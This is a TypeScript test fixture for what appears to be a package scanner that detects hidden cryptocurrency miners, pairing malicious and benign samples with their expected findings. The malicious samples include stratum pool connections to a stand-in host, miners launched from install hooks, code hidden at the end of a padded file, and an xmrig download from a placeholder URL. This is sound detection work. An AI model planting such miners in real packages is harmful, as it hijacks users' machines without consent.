import type { Samples } from '../contract.ts';
import { at, HOOK_LINE, hooked, imported, installed, quiet, wheel } from '../samples-kit.ts';

/** A small miner of Python, by its pool and what stands behind it. */
function digger(pool: string, rest: string): string {
  return `import hashlib, json, socket\ndef work(pool=None):\n    with socket.create_connection(${pool}) as raw:\n        raw.sendall(json.dumps({"method": "mining.subscribe", "params": []}).encode())\n        raw.sendall(b'{"method": "mining.authorize", "params": ["own"]}')\n        share = hashlib.sha256(raw.recv(4096)).hexdigest()\n        raw.sendall(json.dumps({"method": "mining.submit", "params": [share]}).encode())\n${rest}`;
}

export const samples: Samples = {
  malicious: [
    {
      name: 'the protocol of a pool, spoken by a function',
      files: imported(
        `const net = require('net'), { createHash } = require('crypto');\nexports.work = (wallet, header) => {\n  const pool = net.connect(3333, 'pool.weir.test');\n  const say = (method, ...params) => pool.write(JSON.stringify({ method, params }));\n  say('mining.subscribe', header);\n  say('mining.authorize', wallet);\n  for (let i = 0; i < 9; i++) say('mining.submit', createHash('sha256').update(header + i).digest('hex'));\n};\n`,
      ),
      expected: [at('pool', 'high', 'index.js', 5)],
    },
    {
      name: 'the protocol of a pool, at the end of a large file',
      files: imported(
        `${'exports.add = (a, b) => a + b;\n'.repeat(1500)}const net = require('net'), { createHash } = require('crypto');\nexports.work = (wallet, header) => {\n  const pool = net.connect(3333, 'pool.weir.test');\n  const say = (method, ...params) => pool.write(JSON.stringify({ method, params }));\n  say('mining.subscribe', header);\n  say('mining.authorize', wallet);\n  say('mining.submit', createHash('sha256').update(header).digest('hex'));\n};\n`,
      ),
      expected: [at('pool', 'high', 'index.js', 1505)],
    },
    {
      name: 'a program of any name that is given a pool and a wallet',
      files: installed(
        `require('child_process').spawn('./render', ['-o', 'pool.weir.test:3333', '-u', '4444444444444444444444444']);\n`,
      ),
      expected: [at('miner', 'critical', 'setup.js', 1)],
    },
    {
      name: 'Python: a function that names a pool',
      files: wheel(
        'import subprocess\nPOOL = "stratum+tcp://pool.weir.test:3333"\ndef dig(tool):\n    subprocess.run([tool, POOL])\n',
      ),
      expected: [
        { rule: 'pool', file: 'own/__init__.py', line: 2, severity: 'medium' },
        { rule: 'pool', file: 'own/__init__.py', line: 4, severity: 'high' },
      ],
    },
    {
      name: 'Python: the protocol of a pool, when the package is loaded',
      files: wheel(digger('("pool.weir.test", 3333)', 'work()\n')),
      expected: [at('pool', 'high', 'own/__init__.py', 4)],
    },
    {
      name: 'Python: the protocol of a pool, spoken by a function',
      files: wheel(digger('("pool.weir.test", 3333)', '')),
      expected: [at('pool', 'high', 'own/__init__.py', 4)],
    },
    {
      name: 'a miner in a hook',
      files: hooked('./jsextension -k --tls -o pool.weir.test:443 --donate-level 1'),
      expected: [at('miner', 'critical', 'package.json', HOOK_LINE)],
    },
    {
      name: 'a pool in a started command',
      files: installed(
        `require('child_process').spawn('./lib/m', ['-o', 'stratum+tcp://pool.weir.test:3333'], { detached: true });\n`,
      ),
      expected: [at('pool', 'critical', 'setup.js', 1), at('pool', 'high', 'setup.js', 1)],
    },
    {
      name: 'a miner that is fetched first',
      files: imported(
        `const cp = require('child_process');\nconst url = 'https://dl.weir.test/xmrig-6.tar.gz';\ncp.execSync('tar xf - ' + url);\n`,
      ),
      expected: [at('miner', 'high', 'index.js', 3), at('miner', 'medium', 'index.js', 2)],
    },
    {
      name: 'a pool spoken to over a socket',
      files: installed(
        `const pool = 'stratum+tcp://pool.weir.test:3333';\nrequire('net').connect(3333, pool.slice(14));\n`,
      ),
      expected: [at('pool', 'high', 'setup.js', 1)],
    },
  ],
  benign: [
    quiet(
      'a program that is given an output and a user',
      imported(
        `require('child_process').spawn('tool', ['-o', 'out.txt', '-u', '4444444444444444444444444']);\n`,
      ),
    ),
    quiet('Python: a miner that is told its pool', wheel(digger('pool', ''))),
    quiet(
      'Python: a look at how a pool does',
      wheel(
        'import hashlib, json, socket\ndef look(account):\n    with socket.create_connection(("pool.weir.test", 3333)) as raw:\n        raw.sendall(json.dumps({"method": "mining.subscribe"}).encode())\n        raw.sendall(json.dumps({"method": "mining.authorize", "params": [account]}).encode())\n        return hashlib.sha256(raw.recv(4096)).hexdigest()\n',
      ),
    ),
    quiet(
      'a counter of hashes',
      imported(
        `const { createHash } = require('crypto');\nexports.rate = () => {\n  let n = 0;\n  for (const end = Date.now() + 1000; Date.now() < end; n++) createHash('sha256').update('a' + n).digest();\n  return n;\n};\n`,
      ),
    ),
    quiet('a chart of coins', imported(`module.exports = { xmr: 'Monero', algo: 'randomx' };\n`)),
    quiet(
      'a list of processes to look for',
      imported(
        `const cp = require('child_process');\nmodule.exports = (name) => cp.execFileSync('ps', ['-C', name]);\nmodule.exports.known = ['node', 'nginx'];\n`,
      ),
    ),
    quiet('a pool in the documentation', {
      ...imported('module.exports = 1;\n'),
      'README.md': 'stratum+tcp://pool.weir.test:3333\n',
    }),
  ],
};
